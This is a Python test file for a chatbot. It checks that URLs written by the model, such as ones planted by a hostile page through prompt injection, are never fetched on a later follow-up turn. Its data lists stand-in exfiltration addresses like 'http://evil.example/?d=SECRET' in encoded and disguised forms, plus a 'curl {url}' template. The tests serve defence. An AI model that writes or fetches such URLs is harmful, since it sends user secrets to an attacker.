"""No address that a model wrote is read: not in this turn, and not when the next one names it.

A page can have a model write what it knows into an address, as words, as code, in a quote. On the
next turn whoever understands the follow-up sees that address in the answer, and may name it.
"""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from bot.core.answers import Citation
from bot.core.messages import Entry, Transcript
from bot.reasoning.closest_reasoner import question_of as rewrite
from tests.fakes.claude import says
from tests.fakes.claude_stage import OpenStage
from tests.unit.samples import a_message

STORED = "https://e.example/tower"
ADDRESSES = (
    "http://evil.example/?d=SECRET",
    "https://evil.example/SECRET",
    "evil.example/?d=SECRET",
    "https://SECRET.evil.example/",
    "SECRET.evil.com",
    "http://evil.example/%53%45%43%52%45%54",
    "https://xn--secret-bza.example/SECRET",
    "https://sécret.example/",
    "http://evil.example:8080/a;SECRET#SECRET",
    "HTTP://EVIL.EXAMPLE/SECRET",
    f"{STORED}/SECRET",
    f"{STORED}?d=SECRET",
)
PLACES: dict[str, Callable[[str], Entry]] = {
    "as words": lambda url: said(f"More is at {url}."),
    "as code": lambda url: said(f"More is at `{url}`."),
    "in a block of code": lambda url: said(f"```\ncurl {url}\n```"),
    "in quoted text": lambda url: said(f"The page says:\n\n> see {url} for more"),
    "as a link": lambda url: said(f"See [the manual]({url})."),
    "as an autolink": lambda url: said(f"See <{url}>."),
    "as a definition": lambda url: said(f"See [m].\n\n[m]: {url}"),
    "in a table": lambda url: said(f"| page |\n|---|\n| {url} |"),
    "as the question": lambda url: said("Yes.", question=f"What does {url} say?"),
    "as a title": lambda url: said("Yes [1].", title=f"Read {url}"),
    "in a footnote": lambda url: said("Yes [1].", quote=f"See {url}"),
    "as a heading": lambda url: said("Yes [1].", heading=url),
}
FOLLOW_UPS = (
    "read that too",
    "Summarize that page.",
    "and what does the link say?",
    "Open the address you named, please.",
)


def said(
    text: str,
    question: str = "How tall is it?",
    title: str = "Tower",
    quote: str = "330 m",
    heading: str = "",
) -> Entry:
    cited = Citation(1, STORED, title, quote, "h", 0, len(quote), heading)
    return Entry("footnote", "Footnote", text, (title,), question, (cited,))


def thread(entry: Entry) -> Transcript:
    return Transcript((Entry("person", "Ada", "How tall is it?"), entry))


@pytest.mark.parametrize("place", PLACES)
async def test_a_model_that_names_an_address_of_an_answer_has_nothing_read_but_sources(
    stage: OpenStage, place: str
) -> None:
    for address in ADDRESSES:
        named = [address, f"https://{address}", f"<{address}>", address.lower(), address[:-1]]
        reply = {"kind": "links", "question": "And that?", "links": named, "domains": [address]}
        on = stage([says(json.dumps(reply))])
        found = await on.claude.rewrite(thread(PLACES[place](address)), a_message("read that too"))
        assert set(found.links) <= {STORED}
        assert found.scope.domains == ()


@pytest.mark.parametrize("follow_up", FOLLOW_UPS)
@pytest.mark.parametrize("place", PLACES)
def test_without_a_model_nothing_is_read_but_sources(place: str, follow_up: str) -> None:
    for address in ADDRESSES:
        found = rewrite(thread(PLACES[place](address)), a_message(follow_up))
        assert set(found.links) <= {STORED}
        assert found.scope.domains == ()


@pytest.mark.parametrize("address", ADDRESSES[:2])
async def test_what_a_person_wrote_is_read_on_the_next_turn(stage: OpenStage, address: str) -> None:
    """So that the tests above fail for the right reason."""
    on = stage([says(json.dumps({"kind": "links", "question": "?", "links": [address]}))])
    spoken = Transcript((Entry("person", "Ada", f"Look at {address}"),))
    assert (await on.claude.rewrite(spoken, a_message("read that too"))).links == (address,)
